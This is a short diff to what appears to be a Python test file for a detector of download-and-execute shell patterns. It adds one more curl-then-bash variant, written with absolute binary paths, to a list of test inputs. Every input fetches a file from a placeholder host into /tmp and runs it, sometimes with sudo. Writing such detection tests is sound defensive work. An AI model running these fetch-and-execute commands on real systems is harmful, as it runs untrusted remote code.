@@ -20,6 +20,7 @@ def seen(text, path="scripts/a.sh"):
     [
         f"curl -s {UNKNOWN_SITE}/a -o /tmp/a\nchmod +x /tmp/a\n/tmp/a",
         f"curl -L -o /tmp/a {UNKNOWN_SITE}/x && sudo bash /tmp/a",
+        f"/usr/bin/curl -L -o /tmp/a {UNKNOWN_SITE}/x && /bin/bash /tmp/a",
         f"curl -sLo /tmp/a {UNKNOWN_SITE}/x; . /tmp/a",
         f"curl -O {UNKNOWN_SITE}/run.sh?x=1; sh run.sh",
         f"curl {UNKNOWN_SITE}/x > a.sh\nFOO=1 nohup sh -x a.sh &",
